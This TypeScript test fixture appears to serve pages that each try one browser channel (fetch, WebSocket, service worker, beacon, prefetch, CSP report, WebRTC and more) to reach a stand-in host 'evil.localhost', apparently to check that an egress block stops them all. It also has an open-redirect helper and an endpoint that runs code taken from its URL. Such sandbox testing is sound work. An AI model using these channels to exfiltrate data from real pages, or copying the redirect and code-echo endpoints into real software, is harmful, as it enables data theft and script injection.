import type { IncomingMessage, ServerResponse } from 'node:http';

/** Where the pages try to send something: one name per channel, so that whoever refuses it knows what it was. */
export interface Away {
  /** `http://<channel>.evil.localhost:port` */
  http(channel: string): string;
  /** Ports that only count knocks: for what connects and says nothing that we understand. */
  tcpPort: number;
  relayPort: number;
  stunPort: number;
  quicPort: number;
}

type Page = string | ((request: IncomingMessage, response: ServerResponse) => void);

const script = (code: string) => `<!doctype html><body><script>${code}</script>`;
const redirect =
  (to: string, status = 302) =>
  (_request: IncomingMessage, response: ServerResponse) =>
    void response.writeHead(status, { location: to }).end();
const code = (body: string) => (_request: IncomingMessage, response: ServerResponse) =>
  void response.writeHead(200, { 'content-type': 'text/javascript' }).end(body);
const withHeader =
  (name: string, value: string, body: string) => (_request: IncomingMessage, response: ServerResponse) =>
    void response.writeHead(200, { 'content-type': 'text/html', [name]: value }).end(body);

/** Every way out of a page that we know, each a page of its own. */
export function egressChannels(away: Away): Record<string, Page> {
  const pages: Record<string, (to: string) => Page> = {
    fetch: (to) => script(`fetch('${to}', { mode: 'no-cors', method: 'POST', body: 'x' })`),
    xhr: (to) => script(`const x = new XMLHttpRequest(); x.open('GET', '${to}'); x.send()`),
    image: (to) => `<img src="${to}">`,
    script: (to) => `<script src="${to}"></script>`,
    'dynamic-import': (to) => script(`import('${to}/a.js')`),
    stylesheet: (to) => `<link rel="stylesheet" href="${to}">`,
    'css-import': (to) => `<style>@import '${to}';</style>`,
    'css-image': (to) => `<body style="background: url(${to})">hello`,
    font: (to) => `<style>@font-face { font-family: f; src: url(${to}) } body { font-family: f }</style>hello`,
    iframe: (to) => `<iframe src="${to}"></iframe>`,
    object: (to) => `<object data="${to}"></object>`,
    video: (to) => `<video src="${to}" preload="auto" autoplay muted></video>`,
    'form-post': (to) =>
      `<form method="post" action="${to}"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
    navigation: (to) => script(`location.href = '${to}'`),
    'meta-refresh': (to) => `<meta http-equiv="refresh" content="0; url=${to}">`,
    'redirect-navigation': (to) => redirect(to),
    'redirect-image': (to) => `<img src="/hop?to=${encodeURIComponent(to)}">`,
    'redirect-post': (to) =>
      script(`fetch('/hop?to=${encodeURIComponent(to)}', { method: 'POST', body: 'x', mode: 'no-cors' })`),
    'window-open': (to) => `<button onclick="window.open('${to}')">Go</button>`,
    ping: (to) => `<a href="#there" ping="${to}"><button>Go</button></a>`,
    download: (to) => `<a href="${to}" download><button>Go</button></a>`,
    websocket: (to) => script(`new WebSocket('${to.replace('http', 'ws')}')`),
    eventsource: (to) => script(`new EventSource('${to}')`),
    worker: (to) => script(`new Worker('/run.js?' + encodeURIComponent("fetch('${to}', { mode: 'no-cors' })"))`),
    'worker-websocket': (to) =>
      script(`new Worker('/run.js?' + encodeURIComponent("new WebSocket('${to.replace('http', 'ws')}')"))`),
    'service-worker': (to) =>
      script(
        `navigator.serviceWorker.register('/run.js?' + encodeURIComponent("fetch('${to}', { mode: 'no-cors' })"), { scope: '/sw-a/' })`,
      ),
    'service-worker-websocket': (to) =>
      script(
        `navigator.serviceWorker.register('/run.js?' + encodeURIComponent("new WebSocket('${to.replace('http', 'ws')}')"), { scope: '/sw-b/' })`,
      ),
    beacon: (to) => script(`navigator.sendBeacon('${to}', 'x')`),
    'fetch-later': (to) => script(`fetchLater('${to}', { activateAfter: 0 })`),
    'keepalive-on-unload': (to) =>
      script(`addEventListener('pagehide', () => fetch('${to}', { keepalive: true, mode: 'no-cors' }))`),
    'beacon-on-unload': (to) => script(`addEventListener('pagehide', () => navigator.sendBeacon('${to}', 'x'))`),
    prefetch: (to) => `<link rel="prefetch" href="${to}">`,
    preload: (to) => `<link rel="preload" as="image" href="${to}">`,
    modulepreload: (to) => `<link rel="modulepreload" href="${to}/a.js">`,
    'link-header': (to) => withHeader('link', `<${to}>; rel=preload; as=image`, '<p>hello'),
    'speculation-rules': (to) =>
      `<script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${to}"], "eagerness": "immediate" }] }</script>`,
    'csp-report': (to) =>
      withHeader('content-security-policy', `img-src 'none'; report-uri ${to}`, '<img src="/a.png">'),
    preconnect: () => `<link rel="preconnect" href="http://preconnect.evil.localhost:${away.tcpPort}">`,
    'dns-prefetch': () => '<link rel="dns-prefetch" href="//dns-prefetch.canary.example">',
    'webrtc-stun': () => script(`${RTC} rtc({ urls: 'stun:127.0.0.1:${away.stunPort}' })`),
    'webrtc-turn-tcp': () =>
      script(`${RTC} rtc({ urls: 'turn:127.0.0.1:${away.relayPort}?transport=tcp', username: 'a', credential: 'b' })`),
    webtransport: () => script(`new WebTransport('https://127.0.0.1:${away.quicPort}/')`),
  };
  return Object.fromEntries(Object.entries(pages).map(([name, page]) => [`/${name}`, page(away.http(name))]));
}

/** These happen only when somebody clicks. */
export const WITH_BUTTON: ReadonlySet<string> = new Set(['window-open', 'ping', 'download']);

/** What the pages need beside them: a hop to anywhere, and a script that does what its address says. */
export const helpers: Record<string, Page> = {
  '/hop': (request, response) => redirect(questionOf(request).searchParams.get('to') ?? '/', 307)(request, response),
  '/run.js': (request, response) => code(decodeURIComponent(questionOf(request).search.slice(1)))(request, response),
};

const RTC = `async function rtc(server) {
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel('a');
  await peer.setLocalDescription(await peer.createOffer());
}`;

function questionOf({ url = '/' }: IncomingMessage): URL {
  return new URL(url, 'http://localhost');
}
